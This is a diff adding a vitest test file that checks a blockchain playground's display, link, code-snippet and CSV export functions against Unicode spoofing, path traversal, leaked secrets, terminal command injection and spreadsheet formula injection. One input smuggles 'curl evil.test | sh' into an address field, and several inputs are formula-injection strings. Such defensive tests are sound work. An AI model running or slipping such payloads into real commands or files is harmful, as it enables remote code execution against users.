@@ -1,0 +1,61 @@
+import { expect, test } from 'vitest'
+import { explore } from '../../../playground/app/src/result/explorer.js'
+import { exportText } from '../../../playground/app/src/result/exportRows.js'
+import { readable } from '../../../playground/app/src/result/readable.js'
+import { curlStyle } from '../../../playground/app/src/snippet/curl.js'
+import { quoted } from '../../../playground/app/src/snippet/literal.js'
+import { getNativeBalance } from '../../../src/evm.js'
+import { setSettings } from '../../../src/streams.js'
+
+const context = { row: undefined, chain: '0x1', network: undefined }
+
+test('a name that would turn the text around it, or look like another, shows what it hides', () => {
+  expect(readable('USDT\u202e)1(', undefined, context).text).toBe('USDT\\u202e)1(')
+  expect(readable('US\u200bDC', undefined, context)).toMatchObject({ text: 'US\\u200bDC', full: 'US\u200bDC' })
+  expect(readable('https://a.test/\u2066b', undefined, context).text).toBe('a.test/\\u2066b')
+  const row = { tokenDecimals: 0, tokenSymbol: '\u202eTDSU' }
+  expect(readable(5n, 'token-amount', { ...context, row }, 'value').text).not.toContain('\u202e')
+})
+
+test('letters of every language, emoji and line breaks are shown as they are', () => {
+  for (const text of ['سلام', '👩‍🚀', 'می‌خواهم', 'a\nb\tc', 'é'])
+    expect(readable(text, undefined, context).text).toBe(text)
+})
+
+test('an address cannot lead elsewhere on the site of its explorer', () => {
+  const address = `0x${'0'.repeat(18)}/../../?a=b#${'0'.repeat(12)}`
+  expect(explore('address', address, context)).not.toMatch(/\/\.\.|\?|#/)
+  expect(explore('address', address, { ...context, network: 'mainnet' })).not.toMatch(/\/\.\.|#/)
+})
+
+test('code shows what a text of it hides, and still says the same', () => {
+  const text = "a\u202e\u2066// b\u2028c\u0000d'"
+  expect(quoted(text)).toMatch(/^'[ -~]+'$/)
+  expect(JSON.parse(quoted(text).replace("\\'", "'").replace(/^'|'$/g, '"'))).toBe(text)
+})
+
+const loaded = (operation: object) => ({ operation }) as unknown as Parameters<typeof curlStyle>[0]
+
+test('a command for a terminal presses no Enter by itself', () => {
+  const command = curlStyle(loaded(getNativeBalance), { address: 'x\rcurl evil.test | sh\r\u001b[2J' }, {})
+  expect(command).toMatch(/^# [ -~…]+\n$/)
+})
+
+test('a command shows no secret, whatever characters it has', () => {
+  const command = curlStyle(loaded(setSettings), { region: 'us-east-1', secretKey: 'my"sec\\ret' }, {})
+  expect(command).toContain('"secretKey":"…"')
+})
+
+test.each(['=1+1', '+1+1', '-1+1', '@A1', '\t=1+1', '\r=1+1', '\n=1+1', 'a;=1+1', 'a\t=1+1', 'a\n=1+1', '＝1+1'])(
+  'no spreadsheet takes %j for a formula',
+  (text) => {
+    const rows = [{ name: text }]
+    const [, cell = ''] = exportText('csv', rows, rows).split(/\r\n(.*)\r\n$/s)
+    expect(cell.replaceAll('"', '')).not.toMatch(/(^|[;\t\r\n])[\t\r]*[=+\-@＝]/)
+  },
+)
+
+test('numbers as text, addresses and words are exported as they are', () => {
+  const rows = [{ a: '-1.5', b: '0xab', c: 'a-b', d: 'e-mail; 49' }]
+  expect(exportText('csv', rows, rows)).toBe('\uFEFFa,b,c,d\r\n-1.5,0xab,a-b,"e-mail; 49"\r\n')
+})
